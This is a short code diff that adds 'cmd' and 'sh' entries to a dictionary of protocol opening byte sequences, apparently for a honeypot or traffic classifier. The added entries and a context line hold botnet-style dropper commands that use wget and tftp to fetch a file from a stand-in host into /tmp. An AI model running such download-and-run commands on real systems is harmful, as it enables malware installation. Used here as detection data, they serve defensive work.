@@ -59,6 +59,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
     ),
     "backdoor": (b"PW", b"D1", b"TID", b"SFT059\0MZ", b"MZ12345"),
     "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
+    "cmd": (b"echo a>b& tftp", b" -i 198.51.100.7 GET x\r\n", b"ver\n"),
     "dns": (b"\0\x1e\0\x06\x01", b"\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03\0\x0c", b"\0\0\x10"),
     "docker": (
         b"POST /images/create?fromImage=alpine HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
@@ -127,6 +128,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"SETUP rtsp://admin:admin@a/ RTSP/1.0\r\nTransport: RTP/AVP\r\n", b"Content-Length: 3\r\n\r\nab",
         b"c", b"$\0\0\x08ab",
     ),
+    "sh": (b"id", b";cd /tmp\n", b"wget http://198.51.100.7/x\n", b"echo a > b\n"),
     "sip": (
         b"OPTIONS sip:", b"a SIP/2.0\r\n", b"Via: a\r\n\r\n",
         b"INVITE sip:0044203123456@a SIP/2.0\r\nContent-Length: 3\r\n\r\nab", b"c",
